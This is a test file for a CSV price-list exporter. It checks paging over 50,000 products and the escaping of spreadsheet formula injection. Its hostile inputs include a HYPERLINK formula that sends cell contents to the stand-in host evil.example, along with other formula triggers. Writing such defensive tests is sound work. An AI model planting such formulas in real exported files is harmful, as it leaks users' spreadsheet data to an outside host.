import { parse } from "csv-parse/sync";
import { describe, expect, it, vi } from "vitest";
import type { CartProduct } from "./cart/cart-products.server";
import { openPriceFile, PRICE_FILE_PAGE_SIZE } from "./price-file.server";

const PRODUCTS = 50_000;
const products: CartProduct[] = Array.from({ length: PRODUCTS }, (_, i) => ({
  pn: `PN-${String(i).padStart(5, "0")}`,
  title: i % 2 ? `Relay ${i}, 24 V` : `Relé ${i}`,
  slug: { _type: "localeSlug", en: `p-${i}`, es: `p-${i}` },
  image: null,
  list_price: 10 + i / 100,
  pkgqty: 1,
  tariff: false,
  discountSchedule: null,
  categorySlug: "relays",
  series: null,
  leadTimeDays: i % 3,
}));

/** What the catalogue holds for the test running. */
let catalogue = products;
vi.mock("./cart/cart-products.server", () => ({ everyCartProduct: async () => catalogue }));
vi.mock("./content/site.server", () => ({ getSiteContent: async () => ({ categories: [] }), stringsFor: () => ({}) }));
vi.mock("./pricing.server", () => ({
  pricesFor: async (page: readonly CartProduct[]) =>
    Object.fromEntries(page.map((p) => [p.pn, { listCents: Math.round(p.list_price * 100), saleCents: Math.round(p.list_price * 90), callForPrice: false }])),
}));

describe("openPriceFile", () => {
  // Issue 23: each row went through the stream layers on its own (about 0.8 ms a row: 40 s for 50,000 products).
  it("streams 50,000 products as one chunk of CSV text a page of rows, every row once", async () => {
    const file = await openPriceFile({ priceList: null, lang: "en", category: "", at: new Date("2026-11-27T08:00:00Z") });
    if (file.kind !== "file") throw new Error("expected a file");
    const chunks: Buffer[] = [];
    for await (const chunk of file.body) chunks.push(chunk as Buffer);
    expect(chunks.length).toBeLessThanOrEqual(PRODUCTS / PRICE_FILE_PAGE_SIZE + 1);
    const text = Buffer.concat(chunks).toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const records = text.split("\r\n");
    expect(records.pop()).toBe("");
    expect(records).toHaveLength(PRODUCTS + 1);
    expect(records[2]).toBe('PN-00001,"Relay 1, 24 V",10.01,9.01,1,1');
    expect(records[PRODUCTS]).toBe('PN-49999,"Relay 49999, 24 V",509.99,458.99,1,1');
  });

  it("escapes titles a spreadsheet would run as formulas and quotes their line breaks", async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Update prices")', "+1", "@SUM(A1:A9)", "\t=1", "Relay\r\n=1", "Relay\nline two"];
    catalogue = hostile.map((title, i) => ({ ...products[i]!, title }));
    try {
      const file = await openPriceFile({ priceList: null, lang: "en", category: "", at: new Date("2026-11-27T08:00:00Z") });
      if (file.kind !== "file") throw new Error("expected a file");
      const chunks: Buffer[] = [];
      for await (const chunk of file.body) chunks.push(chunk as Buffer);
      const text = Buffer.concat(chunks).toString("utf8");
      // A reader splitting at every line break (as a spreadsheet does outside quotes) finds one record a product.
      const [, ...rows] = parse(text, { bom: true, record_delimiter: ["\r\n", "\n", "\r"] }) as string[][];
      expect(rows.map((row) => row[1])).toEqual(["'" + hostile[0], "'+1", "'@SUM(A1:A9)", "'\t=1", "Relay\r\n=1", "Relay\nline two"]);
      expect(rows.every((row) => row.length === 6)).toBe(true);
    } finally {
      catalogue = products;
    }
  });
});
